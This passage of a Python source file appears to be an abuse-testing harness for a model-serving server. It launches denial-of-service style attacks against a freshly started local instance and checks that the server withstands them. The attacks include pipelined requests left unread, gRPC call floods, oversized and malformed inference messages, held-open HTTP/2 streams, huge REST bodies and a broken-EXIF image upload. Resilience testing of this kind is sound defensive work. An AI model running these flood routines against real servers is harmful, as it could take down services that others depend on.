    """Pipeline GET /healthz up to ``share`` bytes without reading an answer, until the writes stall (the
    server stopped reading) for ``stall_s``, fail, or the deadline; hold the connection to the deadline, then
    read for 2 s what came back: how many answers, and whether the server closed the connection."""
    request = f"GET /healthz HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    chunk = request * ((1 << 16) // len(request))
    record: dict[str, Any] = {"sent": 0, "answers_read": 0}
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 10)
    except (OSError, TimeoutError) as exc:
        record["ended"] = record["closed"] = f"connect error: {type(exc).__name__}"
        return record
    t0 = time.monotonic()
    try:
        record["ended"] = "deadline"
        while time.monotonic() < deadline:
            data = chunk[:(share - record["sent"]) // len(request) * len(request)]
            if not data:
                record["ended"] = "sent all"
                break
            writer.write(data)
            await asyncio.wait_for(writer.drain(), stall_s)
            record["sent"] += len(data)
    except TimeoutError:
        record["ended"] = "stalled"
    except (ConnectionError, OSError) as exc:
        record["ended"] = f"write error: {type(exc).__name__}"
    record["stopped_after_s"] = round(time.monotonic() - t0, 2)
    record["requests_sent"] = record["sent"] // len(request)
    await asyncio.sleep(max(0.0, deadline - time.monotonic()))  # never reading meanwhile
    record["closed"] = "still open"
    tail, end = b"", time.monotonic() + 2.0
    try:
        while (left := end - time.monotonic()) > 0:
            data = await asyncio.wait_for(reader.read(1 << 20), left)
            if not data:
                record["closed"] = "closed by server"
                break
            record["answers_read"] += (tail + data).count(b"HTTP/1.1 ") - tail.count(b"HTTP/1.1 ")
            tail = data[-8:]
    except TimeoutError:
        pass
    except (ConnectionError, OSError) as exc:
        record["closed"] = f"reset: {type(exc).__name__}"
    close_writer(writer)
    return record


async def attack_pipeline_unread(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    share = opts.pipeline_bytes // opts.pipeline_connections
    out.update(connections=opts.pipeline_connections, mb_per_connection=round(share / MB, 2))
    deadline = time.monotonic() + opts.seconds
    out["records"] = await asyncio.gather(*(pipeline_connection(ctx.port, share, deadline)
                                            for _ in range(opts.pipeline_connections)))


def _finish_pipeline(ctx: Ctx) -> None:
    records = ctx.outcome.get("records") or []
    for r in records:
        r["mb_sent"] = round(r.pop("sent") / MB, 2)
    ctx.outcome["ended"] = dict(Counter(r["ended"] for r in records))
    ctx.outcome["closed"] = dict(Counter(r["closed"] for r in records))
    ctx.outcome["mb_sent"] = {"min": min((r["mb_sent"] for r in records), default=None),
                              "max": max((r["mb_sent"] for r in records), default=None),
                              "total": round(sum(r["mb_sent"] for r in records), 1)}
    ctx.outcome["answers_read_max"] = max((r["answers_read"] for r in records), default=None)


def _checks_pipeline(result: dict, opts: Options) -> dict[str, bool]:
    records = result["outcome"].get("records") or []
    return {"pipeline_server_stopped_reading": bool(records) and all(
                r["ended"] == "stalled" or r["ended"].startswith("write error") for r in records),
            # the server answers what it queued (SERVE_MAX_PIPELINED, 8 by default), not all it was sent
            "pipeline_answers_bounded": bool(records) and all(r["answers_read"] <= 1000 for r in records),
            # and drops a client that reads no answers (closed or reset by the end of the attack)
            "pipeline_connections_closed": bool(records) and all(r["closed"] != "still open" for r in records)}


# gRPC

INFER_METHOD = "/inference.GRPCInferenceService/ModelInfer"


def grpc_channel(ctx: Ctx):
    """A channel on its own connection (no subchannel shared with the others), messages up to 64 MB."""
    import grpc  # only the gRPC attacks need it
    return grpc.aio.insecure_channel(f"{HOST}:{ctx.server.grpc_port}", options=[
        ("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", 64 * MB),
        ("grpc.max_receive_message_length", 64 * MB)])


def infer_method(channel, stream: bool = False):
    """ModelInfer on ``channel``; with ``stream``, called with a request iterator (it may never send one)."""
    from service.v2_grpc import inference_pb2 as pb
    make = channel.stream_unary if stream else channel.unary_unary
    return make(INFER_METHOD, request_serializer=pb.ModelInferRequest.SerializeToString,
                response_deserializer=pb.ModelInferResponse.FromString)


def infer_request(model: str, example: dict):
    """A ModelInferRequest of one instance: each field of ``example`` a [1] tensor in its typed contents."""
    from service.v2_grpc import inference_pb2 as pb
    request = pb.ModelInferRequest(model_name=model)
    for name, value in example.items():
        if value is None:
            continue
        tensor = request.inputs.add(name=name, shape=[1])
        if isinstance(value, bool):
            tensor.datatype = "BOOL"
            tensor.contents.bool_contents.append(value)
        elif isinstance(value, int):
            tensor.datatype = "INT64"
            tensor.contents.int64_contents.append(value)
        elif isinstance(value, float):
            tensor.datatype = "FP64"
            tensor.contents.fp64_contents.append(value)
        else:
            tensor.datatype = "BYTES"
            tensor.contents.bytes_contents.append(str(value).encode())
    return request


def pixels_request(datatype: str, shape: list[int], raw: bytes):
    """A fashion ModelInferRequest whose pixels are ``raw`` (raw_input_contents), declared as given."""
    from service.v2_grpc import inference_pb2 as pb
    request = pb.ModelInferRequest(model_name="fashion")
    request.inputs.add(name="pixels", datatype=datatype, shape=shape)
    request.raw_input_contents.append(raw)
    return request


async def grpc_call(method, request, metadata: list, timeout: float) -> dict[str, Any]:
    import grpc
    record: dict[str, Any] = {"code": "OK", "detail": None}
    t0 = time.monotonic()
    try:
        await method(request, metadata=metadata or None, timeout=timeout)
    except grpc.aio.AioRpcError as exc:
        record["code"], record["detail"] = exc.code().name, (exc.details() or "")[:200]
    record["seconds"] = round(time.monotonic() - t0, 4)
    return record


def summarize_calls(records: list[dict]) -> dict[str, Any]:
    times = [r["seconds"] for r in records]
    details = {}
    for r in records:
        if r["detail"] and r["code"] not in details:
            details[r["code"]] = r["detail"]
    return {"calls": len(records), "codes": dict(Counter(r["code"] for r in records)),
            "seconds": {"p50": percentile(times, 50), "p99": percentile(times, 99), "max": max(times, default=None)},
            "details": details}


async def grpc_callers(ctx: Ctx, requests: dict[str, Any], metadata: Callable[[int], list], callers: int,
                       records: list[dict]) -> None:
    """``callers`` loops for --seconds over a few channels, caller i sending the requests in turn from the
    i-th, with ``metadata(i)``; each call's code and time go to ``records``."""
    channels = [grpc_channel(ctx) for _ in range(ctx.opts.grpc_channels)]
    names = list(requests)
    deadline = time.monotonic() + ctx.opts.seconds

    async def caller(i: int) -> None:
        method = infer_method(channels[i % len(channels)])
        turn = i
        while turn == i or time.monotonic() < deadline:
            name = names[turn % len(names)]
            turn += 1
            record = await grpc_call(method, requests[name], metadata(i), ctx.opts.client_timeout_s)
            record["variant"] = name
            record["keyed"] = bool(metadata(i))
            records.append(record)

    try:
        await asyncio.gather(*(caller(i) for i in range(callers)))
    finally:
        for channel in channels:
            await channel.close()


def big_message_instances(opts: Options) -> int:
    return opts.grpc_message_bytes // (28 * 28 * 4)  # 28x28 FP32 pictures in a message of that size


async def attack_grpc_big_nokey(ctx: Ctx) -> None:
    n = big_message_instances(ctx.opts)
    ctx.outcome["message_bytes"] = n * 28 * 28 * 4
    records: list[dict] = []
    ctx.outcome["calls_raw"] = records
    requests = {"fp32": pixels_request("FP32", [n, 28, 28], bytes(n * 28 * 28 * 4))}
    await grpc_callers(ctx, requests, lambda i: [], ctx.opts.grpc_concurrency, records)


async def attack_grpc_big_invalid(ctx: Ctx) -> None:
    n = big_message_instances(ctx.opts)
    size = n * 28 * 28 * 4
    over = (9 * MB) // (28 * 28 * 4)
    requests = {"fp32_short": pixels_request("FP32", [n, 28, 28], bytes(size - 4)),  # 1 value short
                "fp32_wrong_shape": pixels_request("FP32", [1, 28, 28], bytes(size)),
                "bytes_empty_elements": pixels_request("BYTES", [n, 28, 28], bytes(size)),  # n*784 empty strings
                "over_cap": pixels_request("FP32", [over, 28, 28], bytes(over * 28 * 28 * 4))}
    ctx.outcome["message_bytes"] = {name: r.ByteSize() for name, r in requests.items()}
    records: list[dict] = []
    ctx.outcome["calls_raw"] = records
    await grpc_callers(ctx, requests, lambda i: ctx.key_metadata(), ctx.opts.grpc_concurrency, records)


async def attack_grpc_flood(ctx: Ctx) -> None:
    request = infer_request("phone-price", ctx.examples["phone-price"])
    records: list[dict] = []
    ctx.outcome["calls_raw"] = records
    t0 = time.monotonic()
    await grpc_callers(ctx, {"phone": request}, lambda i: ctx.key_metadata() if i % 2 == 0 else [],
                       ctx.opts.grpc_callers, records)
    ctx.outcome["calls_per_s"] = round(len(records) / (time.monotonic() - t0), 1)


def _finish_grpc(ctx: Ctx) -> None:
    records = ctx.outcome.pop("calls_raw", [])
    ctx.outcome["by_variant"] = {name: summarize_calls([r for r in records if r["variant"] == name])
                                 for name in sorted({r["variant"] for r in records})}
    ctx.outcome["by_key"] = {label: summarize_calls([r for r in records if r["keyed"] == keyed])
                             for label, keyed in (("with_key", True), ("no_key", False))
                             if any(r["keyed"] == keyed for r in records)}


def _only_codes(summary: dict | None, codes: set[str]) -> bool:
    return bool(summary) and summary["calls"] > 0 and set(summary["codes"]) <= codes


def _checks_grpc_nokey(result: dict, opts: Options) -> dict[str, bool]:
    return {"grpc_nokey_unauthenticated": _only_codes(result["outcome"].get("by_key", {}).get("no_key"),
                                                      {"UNAUTHENTICATED"})}


def _checks_grpc_invalid(result: dict, opts: Options) -> dict[str, bool]:
    variants = result["outcome"].get("by_variant", {})
    return {"grpc_invalid_refused": len(variants) == 4 and all(
                _only_codes(v, {"INVALID_ARGUMENT", "RESOURCE_EXHAUSTED"}) for v in variants.values()),
            "grpc_over_cap_resource_exhausted": _only_codes(variants.get("over_cap"), {"RESOURCE_EXHAUSTED"})}


def _checks_grpc_flood(result: dict, opts: Options) -> dict[str, bool]:
    by_key = result["outcome"].get("by_key", {})
    good = result.get("good_client") or {}
    return {"grpc_with_key_ok": _only_codes(by_key.get("with_key"), {"OK"}),
            "grpc_nokey_unauthenticated": _only_codes(by_key.get("no_key"), {"UNAUTHENTICATED"}),
            "good_client_p50_under_100ms": good.get("p50_ms") is not None and good["p50_ms"] < 100}


async def attack_grpc_streams_unread(ctx: Ctx) -> None:
    """Open --grpc-streams ModelInfer calls whose request never comes (HTTP/2 streams the server must hold),
    over a few connections, and leave them; meanwhile a separate channel calls phone-price every 0.2 s. A call
    still pending at the end was accepted by the server or is queued by this client's HTTP/2 stack (the
    server's MAX_CONCURRENT_STREAMS): grpcio does not tell them apart."""
    opts, out = ctx.opts, ctx.outcome
    hold = asyncio.Event()

    async def never_sends():
        await hold.wait()
        return
        yield  # an async generator that never yields: the call's message never comes

    channels = [grpc_channel(ctx) for _ in range(opts.grpc_stream_channels)]
    methods = [infer_method(channel, stream=True) for channel in channels]
    deadline = time.monotonic() + opts.seconds
    calls = []
    try:
        t0 = time.monotonic()
        for i in range(opts.grpc_streams):
            calls.append(methods[i % len(methods)](never_sends(), metadata=ctx.key_metadata()))
            if i % 200 == 199:
                await asyncio.sleep(0)
        out.update(streams=opts.grpc_streams, channels=len(channels), opened_in_s=round(time.monotonic() - t0, 2))
        probes: list[dict] = []
        out["probe_raw"] = probes
        request = infer_request("phone-price", ctx.examples["phone-price"])
        probe_channel = grpc_channel(ctx)
        try:
            method = infer_method(probe_channel)
            while time.monotonic() < deadline:
                probes.append(await grpc_call(method, request, ctx.key_metadata(), 2.0))
                await asyncio.sleep(0.2)
        finally:
            await probe_channel.close()
        codes = Counter()
        for call in calls:
            if call.done():
                codes[(await call.code()).name] += 1
        out["ended_early"] = dict(codes)  # refused (RESOURCE_EXHAUSTED, UNAVAILABLE) or otherwise ended
        out["held_to_end"] = len(calls) - sum(codes.values())  # accepted, or queued by the client's HTTP/2 limit
    finally:
        for call in calls:
            call.cancel()
        hold.set()
        for channel in channels:
            await channel.close()


def _finish_grpc_streams(ctx: Ctx) -> None:
    ctx.outcome["probe"] = summarize_calls(ctx.outcome.pop("probe_raw", []))


def _checks_grpc_streams(result: dict, opts: Options) -> dict[str, bool]:
    return {"grpc_probe_ok": _only_codes(result["outcome"].get("probe"), {"OK"})}


# REST v2 bodies and the upload mix

def v2_bodies(opts: Options) -> dict[str, tuple[str, bytes, bytes]]:
    """name: (path, extra headers, body): binary BYTES tensors of many tiny elements (Triton's layout: a 4-byte
    little-endian length, then the bytes) and JSON arrays of numbers, flat and nested."""
    bodies = {}
    for name, model, tensor, element in (("bytes_1_byte_elements", "house-price", "MSZoning", b"\x01\x00\x00\x00a"),
                                         ("bytes_empty_elements", "fashion", "pixels", b"\x00" * 4)):
        count = opts.v2_bytes // len(element)
        binary = element * count
        header = json.dumps({"inputs": [{"name": tensor, "datatype": "BYTES", "shape": [count],
                                         "parameters": {"binary_data_size": len(binary)}}]}).encode()
        bodies[name] = (f"/v2/models/{model}/infer", f"Inference-Header-Content-Length: {len(header)}\r\n".encode(),
                        header + binary)
    rows = max(1, opts.v2_numbers // 784)
    flat = ",".join(["12.5"] * (rows * 784))
    row = "[" + ",".join(["12.5"] * 28) + "]"
    picture = "[" + ",".join([row] * 28) + "]"
    for name, data in (("json_numbers_flat", f"[{flat}]"), ("json_numbers_nested", "[" + ",".join([picture] * rows) + "]")):
        body = f'{{"inputs": [{{"name": "pixels", "datatype": "FP32", "shape": [{rows}, 28, 28], "data": {data}}}]}}'
        bodies[name] = ("/v2/models/fashion/infer", b"", body.encode())
    return bodies


def _prepare_v2(ctx: Ctx) -> None:
    ctx.extra["v2"] = v2_bodies(ctx.opts)


async def attack_v2_bodies(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    bodies = ctx.extra["v2"]
    out["body_bytes"] = {name: len(body) for name, (_, _, body) in bodies.items()}
    names = list(bodies)
    records: list[dict] = []
    out["records"] = records
    deadline = time.monotonic() + opts.seconds

    async def worker(i: int) -> None:
        turn = i
        while turn == i or time.monotonic() < deadline:
            name = names[turn % len(names)]
            turn += 1
            path, extra, body = bodies[name]
            head = post_head(path, "application/octet-stream" if extra else "application/json", len(body),
                             ctx.key_header() + extra)
            record = await exchange(ctx.port, head, body, timeout=opts.client_timeout_s)
            record["payload"] = name
            records.append(record)

    await asyncio.gather(*(worker(i) for i in range(opts.v2_concurrency)))


def _finish_v2(ctx: Ctx) -> None:
    ctx.outcome["by_payload"] = uploads_by_payload(ctx.outcome.pop("records", []))


def _checks_v2(result: dict, opts: Options) -> dict[str, bool]:
    payloads = result["outcome"].get("by_payload", {})

    def refused(summary: dict) -> bool:
        """Every request 400/413/422, or reset while its body was still being sent (the server answered early
        and closed: the answer was lost to the reset, see ``exchange``), and at least one status came."""
        statuses = summary["statuses"]
        return any(k in ("400", "413", "422") for k in statuses) and \
            all(k in ("400", "413", "422") or k.startswith("reset mid-body") for k in statuses)

    return {"v2_bodies_4xx": len(payloads) == 4 and all(refused(s) for s in payloads.values()),
            "v2_bodies_answered_within_2s": len(payloads) == 4 and all(
                (s["seconds_to_answer_or_reset"]["max"] or 99) < 2 for s in payloads.values())}


def small_png(broken_exif: bool = False) -> bytes:
    """A 28x28 greyscale garment PNG; with ``broken_exif`` a 8x8 one with an eXIf chunk that is no TIFF
    (``Image.open(...).getexif()`` raises on it)."""
    import io

    from PIL import Image, ImageDraw
    buffer = io.BytesIO()
    if broken_exif:
        Image.new("L", (8, 8), 128).save(buffer, format="PNG", exif=b"Exif\x00\x00NOTATIFF")
    else:
        image = Image.new("L", (28, 28), 0)
        _garment(ImageDraw.Draw(image), 28, 28, 200)
        image.save(buffer, format="PNG")
    return buffer.getvalue()


def _prepare_mix(ctx: Ctx) -> None:
    import io

    from PIL import Image
    ctx.extra["png"], ctx.extra["broken"] = small_png(), small_png(broken_exif=True)
    try:
        Image.open(io.BytesIO(ctx.extra["broken"])).getexif()
        ctx.outcome["broken_exif_raises"] = False
    except Exception as exc:  # noqa: BLE001 - the point of the payload: Pillow cannot read its EXIF
        ctx.outcome["broken_exif_raises"] = f"{type(exc).__name__}: {exc}"


async def attack_broken_upload_mix(ctx: Ctx) -> None:
    opts, out = ctx.opts, ctx.outcome
    example = ctx.examples["fashion"]
    other = {"pixels": [[255 - v for v in row] for row in example["pixels"]]}
    image = {"file": ("shirt.png", ctx.extra["png"], "image/png")}
    kinds = {  # name: (group, path, httpx arguments)
        "fashion": ("good", "/fashion", {"json": example}),
        "fashion-batch": ("good", "/fashion/batch", {"json": {"instances": [example, other]}}),
        "fashion-image": ("good", "/fashion/image", {"files": image}),
        "invalid-json": ("bad", "/fashion", {"content": b'{"pixels": [[0, 1,', "headers": {"Content-Type": "application/json"}}),
        "wrong-pixels": ("bad", "/fashion", {"json": {"pixels": [[1, 2, 3]]}}),
        "broken-exif": ("exif", "/fashion/image", {"files": {"file": ("broken.png", ctx.extra["broken"], "image/png")}}),
    }
    out["broken_png_bytes"] = len(ctx.extra["broken"])
    records: list[dict] = []
    out["records"] = records
    headers = {"X-API-Key": ctx.key} if ctx.key else {}
    limits = httpx.Limits(max_connections=opts.mix_clients, max_keepalive_connections=opts.mix_clients)
    async with httpx.AsyncClient(base_url=ctx.server.url, headers=headers, timeout=opts.client_timeout_s,
                                 limits=limits) as client:
        async def send(kind: str) -> dict[str, Any]:
            group, path, arguments = kinds[kind]
            record: dict[str, Any] = {"kind": kind, "group": group, "status": None}
            t0 = time.monotonic()
            try:
                response = await client.post(path, **arguments)
                record["status"] = response.status_code
                try:
                    record["body"] = response.json()
                except ValueError:
                    record["body"] = response.text[:300]
            except httpx.HTTPError as exc:
                record["error"] = type(exc).__name__
            record["seconds"] = round(time.monotonic() - t0, 4)
            return record

        # each good request's answer when sent alone, before the mix
        alone = {kind: await send(kind) for kind, (group, _, _) in kinds.items() if group == "good"}
        out["alone"] = {kind: r["status"] for kind, r in alone.items()}
        names = list(kinds)
        deadline = time.monotonic() + opts.seconds

        async def client_loop(i: int) -> None:
            turn = i
            while turn == i or time.monotonic() < deadline:
                record = await send(names[turn % len(names)])
                turn += 1
                if record["group"] == "good":
                    expected = alone[record["kind"]]
                    record["matches"] = expected["status"] == 200 and record["status"] == 200 and \
                        record.get("body") == expected.get("body")
                    if not record["matches"] and "first_mismatch" not in out:
                        out["first_mismatch"] = {"kind": record["kind"], "status": record["status"],
                                                 "got": str(record.get("body"))[:300],
                                                 "alone": str(expected.get("body"))[:300]}
                if record["group"] != "good" or not record.get("matches"):
                    record["detail"] = str(record.get("body"))[:200] if record["status"] != 200 else None
                record.pop("body", None)
                records.append(record)

        await asyncio.gather(*(client_loop(i) for i in range(opts.mix_clients)))


def _finish_mix(ctx: Ctx) -> None:
    records = ctx.outcome.pop("records", [])
    by_kind = {}
    for kind in sorted({r["kind"] for r in records}):
        rows = [r for r in records if r["kind"] == kind]
        times = [r["seconds"] for r in rows]
        by_kind[kind] = {"group": rows[0]["group"], "requests": len(rows),
                         "statuses": dict(Counter(str(r["status"] or r.get("error")) for r in rows)),
                         "seconds": {"p50": percentile(times, 50), "max": max(times)},
                         "details": {str(r["status"]): r["detail"] for r in rows if r.get("detail")}}
        if rows[0]["group"] == "good":
            by_kind[kind]["mismatches"] = sum(not r["matches"] for r in rows)
    ctx.outcome["by_kind"] = by_kind


def _checks_mix(result: dict, opts: Options) -> dict[str, bool]:
    out = result["outcome"]
    kinds = out.get("by_kind", {})

    def groups(name: str) -> list[dict]:
        return [k for k in kinds.values() if k["group"] == name]

    def statuses(name: str) -> list[str]:
        return [s for k in groups(name) for s in k["statuses"]]

    return {"exif_payload_raises_in_pillow": bool(out.get("broken_exif_raises")),
            "exif_4xx": bool(statuses("exif")) and all(s.isdigit() and 400 <= int(s) < 500 for s in statuses("exif")),
            "bad_requests_4xx": bool(statuses("bad")) and all(s.isdigit() and 400 <= int(s) < 500 for s in statuses("bad")),
            "good_never_5xx": bool(statuses("good")) and all(s.isdigit() and int(s) < 500 for s in statuses("good")),
            "good_answers_match": len(groups("good")) == 3 and all(k["mismatches"] == 0 for k in groups("good"))}


ATTACKS: dict[str, Attack] = {a.name: a for a in (
    Attack("big-uploads", attack_big_uploads, prepare=_prepare_big_uploads, finish=_finish_uploads,
           bound=lambda o: o.seconds + o.client_timeout_s + 5, checks=_checks_big_uploads),
    Attack("icc-bomb", attack_icc_bomb, prepare=_prepare_icc, finish=_finish_icc,
           bound=lambda o: o.seconds + o.client_timeout_s + 5, checks=_checks_icc),
    Attack("json-key-flood", attack_json_key_flood, settings=lambda o: {"SERVE_API_KEYS": json.dumps([API_KEY])},
           prepare=_prepare_json, finish=_finish_json, bound=lambda o: o.seconds + 3 * o.client_timeout_s + 10,
           checks=_checks_json),
    Attack("slowloris", attack_slowloris,
           settings=lambda o: {"SERVE_REQUEST_READ_TIMEOUT_S": f"{o.read_timeout_s:g}",
                               **({"SERVE_MAX_CONNECTIONS": str(o.slow_max_connections)}
                                  if o.slow_max_connections else {})},
           prepare=_prepare_slowloris, finish=_finish_slow, bound=lambda o: max(o.seconds, o.read_timeout_s + 6) + 20,
           checks=_checks_slowloris),
    Attack("conn-cap", attack_conn_cap,
           settings=lambda o: {"SERVE_MAX_CONNECTIONS": str(o.connection_cap), "SERVE_WORKERS": "1",  # a per-process cap
                               "SERVE_REQUEST_READ_TIMEOUT_S": f"{o.seconds + 30:g}"},
           prepare=_prepare_conn_cap, finish=_finish_conn_cap, bound=lambda o: o.seconds + 20, checks=_checks_conn_cap),
    Attack("stream-flood", attack_stream_flood, good_model="poem", finish=_finish_streams,
           bound=lambda o: o.seconds + 20, checks=_checks_streams),
    Attack("tampered-artifact", attack_tampered_artifact, prepare=_prepare_tampered, finish=_finish_tampered,
           bound=lambda o: 60, checks=_checks_tampered),
    Attack("header-flood", attack_header_flood, settings=round_two_settings, finish=_finish_header_flood,
           bound=lambda o: o.seconds + 30, checks=_checks_header_flood, seconds=15.0),
    Attack("pipeline-unread", attack_pipeline_unread, settings=round_two_settings, finish=_finish_pipeline,
           bound=lambda o: o.seconds + 15, checks=_checks_pipeline, seconds=15.0),
    Attack("grpc-big-nokey", attack_grpc_big_nokey, settings=round_two_settings, finish=_finish_grpc,
           bound=lambda o: o.seconds + o.client_timeout_s + 10, checks=_checks_grpc_nokey, seconds=15.0),
    Attack("grpc-big-invalid", attack_grpc_big_invalid, settings=round_two_settings, finish=_finish_grpc,
           bound=lambda o: o.seconds + o.client_timeout_s + 10, checks=_checks_grpc_invalid, seconds=15.0),
    Attack("grpc-flood", attack_grpc_flood, settings=round_two_settings, finish=_finish_grpc,
           bound=lambda o: o.seconds + o.client_timeout_s + 10, checks=_checks_grpc_flood, seconds=15.0),
    Attack("grpc-streams-unread", attack_grpc_streams_unread, settings=round_two_settings,
           finish=_finish_grpc_streams, bound=lambda o: o.seconds + 60, checks=_checks_grpc_streams, seconds=15.0),
    Attack("v2-bodies", attack_v2_bodies, settings=round_two_settings, prepare=_prepare_v2, finish=_finish_v2,
           bound=lambda o: o.seconds + o.client_timeout_s + 10, checks=_checks_v2, seconds=15.0),
    Attack("broken-upload-mix", attack_broken_upload_mix, settings=round_two_settings, prepare=_prepare_mix,
           finish=_finish_mix, bound=lambda o: o.seconds + o.client_timeout_s + 20, checks=_checks_mix, seconds=15.0),
)}


# ---------------------------------------------------------------------------------------------------------------
# Running


def fetch_examples(url: str, key: str | None) -> dict[str, dict]:
    """Each model's example input from GET /models (input_schema.examples[0])."""
    try:
        response = httpx.get(url + "/models", headers={"X-API-Key": key} if key else {}, timeout=10)
        return {m["name"]: (m.get("input_schema", {}).get("examples") or [None])[0] for m in response.json()}
    except (httpx.HTTPError, ValueError, KeyError, TypeError, AttributeError):
        return {}


def common_checks(result: dict) -> dict[str, bool]:
    healthz = result.get("healthz") or {}
    good = result.get("good_client") or {}
    rss = result.get("rss_mb") or {}
    return {"server_alive": bool(result.get("server_alive")),
            "healthz_p99_under_100ms": healthz.get("p99_ms") is not None and healthz["p99_ms"] < 100,
            "healthz_never_failed": healthz.get("n", 0) > 0 and healthz.get("failures", 1) == 0,
            "good_client_only_2xx": good.get("requests", 0) > 0 and good.get("non_2xx_count", 1) == 0,
            "memory_peak_rise_under_500mb": rss.get("peak_rise") is not None and rss["peak_rise"] <= 500,
            "memory_end_rise_under_300mb": rss.get("end_rise") is not None and rss["end_rise"] <= 300}


def run_attack(name: str, opts: Options | None = None) -> dict[str, Any]:
    """Run one attack against a fresh server and return its result (figures, outcome, checks); never raises
    for what the server does (a crash, a refusal, a timeout is recorded)."""
    opts = opts or Options()
    attack = ATTACKS[name]
    if opts.seconds is None:
        opts = replace(opts, seconds=attack.seconds)
    work = Path(tempfile.mkdtemp(prefix=f"abuse-{name}-"))
    ctx = Ctx(opts=opts, work=work, payloads=payload_dir(opts))
    result: dict[str, Any] = {"attack": name, "parameters": {k: (str(v) if isinstance(v, Path) else v)
                                                             for k, v in asdict(opts).items()}}
    server = monitor = None
    samples: dict = {}
    t_start = t_end = time.monotonic()
    started = time.monotonic()
    try:
        attack.prepare(ctx)
        settings = {**attack.settings(opts), **ctx.settings}
        ctx.key = json.loads(settings["SERVE_API_KEYS"])[0] if "SERVE_API_KEYS" in settings else None
        result["settings"] = settings
        server = ctx.server = Server(settings, work, opts.server_nofile)
        result["server_fd_limit"] = server.nofile
        result["readyz_at_start"] = server.wait_ready(ctx.key)
        result["server_start_s"] = round(time.monotonic() - started, 1)
        ctx.examples = fetch_examples(server.url, ctx.key)
        good_body = ctx.examples.get(attack.good_model)
        result["good_client_route"] = f"POST /{attack.good_model}"
        if good_body is None:
            result["good_client_note"] = f"no example for {attack.good_model} on /models: no good client"
        monitor = Monitor(server, ctx.key, f"/{attack.good_model}", good_body, opts, work)
        time.sleep(opts.baseline_s)
        t_start = time.monotonic()
        try:
            asyncio.run(asyncio.wait_for(attack.run(ctx), attack.bound(opts)))
        except TimeoutError:
            ctx.outcome["cut_off"] = f"the attack ran past its bound of {attack.bound(opts):g} s and was stopped"
        t_end = time.monotonic()
    except Exception as exc:  # a measuring tool: report, go on with the next attack
        result["error"] = f"{type(exc).__name__}: {exc}"
        result["traceback"] = traceback.format_exc().splitlines()[-6:]
        t_end = time.monotonic()
    finally:
        if monitor is not None:
            time.sleep(opts.settle_s)
            samples = monitor.stop()
        if server is not None:
            result["server_alive"] = server.alive()
            if not server.alive():
                result["server_exit_code"] = server.process.returncode
            server.stop()
            result["server_log"] = server.log_summary()
        try:
            attack.finish(ctx)
        except Exception as exc:
            result.setdefault("error", f"summarizing: {type(exc).__name__}: {exc}")
        if not opts.keep_work:
            shutil.rmtree(work, ignore_errors=True)
        else:
            result["work_dir"] = str(work)
    result["attack_seconds"] = round(t_end - t_start, 2)
    if samples:
        result.update(summarize_samples(samples, t_start, t_end + opts.settle_s))
    result["outcome"] = ctx.outcome
    checks = common_checks(result)
    try:
        checks.update(attack.checks(result, opts))
    except Exception as exc:
        result.setdefault("error", f"checking: {type(exc).__name__}: {exc}")
    result["checks"] = checks
    result["wall_seconds"] = round(time.monotonic() - started, 1)
    return result


def outcome_line(result: dict) -> str:
    """A one-line summary of what the attacker got."""
    error = f"ERROR {result['error'][:150]}; " if "error" in result else ""
    return error + _outcome_line(result)


def _outcome_line(result: dict) -> str:
    out, name = result.get("outcome", {}), result["attack"]
    if name in ("big-uploads", "icc-bomb"):
        parts = [f"{p}: {s['statuses']}" for p, s in out.get("by_payload", {}).items()]
        return "; ".join(parts)
    if name == "json-key-flood":
        parts = []
        for label in ("no_key", "with_key"):
            held, flood = out.get(f"{label}_held", {}), out.get(f"{label}_flood", {})
            parts.append(f"{label}: {flood.get('statuses')} max "
                         f"{flood.get('seconds_to_answer_or_reset', {}).get('max')} s, "
                         f"held {held.get('status')} {'before' if held.get('answered_before_body') else 'after'} body")
        return "; ".join(parts)
    if name == "slowloris":
        parts = [f"{m}: {s['ended']} {s['statuses']} life max {s['lifetime_s']['max']} s"
                 for m, s in out.get("modes", {}).items()]
        return "; ".join(parts)
    if name == "conn-cap":
        return (f"{out.get('connections')} conns, cap {out.get('cap')}: held {out.get('held_to_end')}, refused "
                f"{out.get('refused_within_1s')} {out.get('refused_statuses')}, later {out.get('closed_later')}, "
                f"connect errors {out.get('connect_errors')}")
    if name == "stream-flood":
        return (f"{out.get('attempts')} attempts {out.get('statuses')}, at once max {out.get('most_streams_at_once')}, "
                f"503 with Retry-After {out.get('refused_with_retry_after')}/{out.get('refused_503')}")
    if name == "tampered-artifact":
        models = (out.get("readyz") or {}).get("body", {}).get("models", {})
        states = {k: str(v).split(":")[0] for k, v in models.items()}
        return f"states {states}; markers {out.get('markers_present')}; control {list((out.get('control') or {}).values())}"
    if name == "header-flood":
        return "; ".join(f"{m}: {s['statuses']} {s['ended']}, KB sent before answer/close max "
                         f"{s['kb_sent_before_answer_or_close']['max']}" for m, s in out.get("by_mode", {}).items())
    if name == "pipeline-unread":
        return (f"{out.get('connections')} conns: {out.get('ended')}, MB sent {out.get('mb_sent')}, answers read max "
                f"{out.get('answers_read_max')}, {out.get('closed')}")
    if name in ("grpc-big-nokey", "grpc-big-invalid"):
        return "; ".join(f"{v}: {s['codes']} p50 {s['seconds']['p50']} s max {s['seconds']['max']} s"
                         for v, s in out.get("by_variant", {}).items())
    if name == "grpc-flood":
        return (f"{out.get('calls_per_s')} calls/s; " + "; ".join(
            f"{k}: {s['codes']} p50 {s['seconds']['p50']} s" for k, s in out.get("by_key", {}).items()))
    if name == "grpc-streams-unread":
        probe = out.get("probe") or {}
        return (f"{out.get('streams')} calls: held {out.get('held_to_end')}, ended early {out.get('ended_early')}; "
                f"probe {probe.get('codes')} p99 {(probe.get('seconds') or {}).get('p99')} s")
    if name == "v2-bodies":
        return "; ".join(f"{p}: {s['statuses']} max {s['seconds_to_answer']['max']} s"
                         for p, s in out.get("by_payload", {}).items())
    if name == "broken-upload-mix":
        return "; ".join(f"{k}: {s['statuses']}" + (f" mismatches {s['mismatches']}" if "mismatches" in s else "")
                         for k, s in out.get("by_kind", {}).items())
    return json.dumps(out)[:120]


def table(results: list[dict]) -> str:
    rows = [("| attack | peak RSS MB (rise) | RSS after settle (rise) | /healthz p50 / p99 / max ms | fails | good req | "
             "good non-2xx | good p99 ms | checks failed | outcome |"), "|---|---:|---:|---|---:|---:|---|---:|---|---|"]
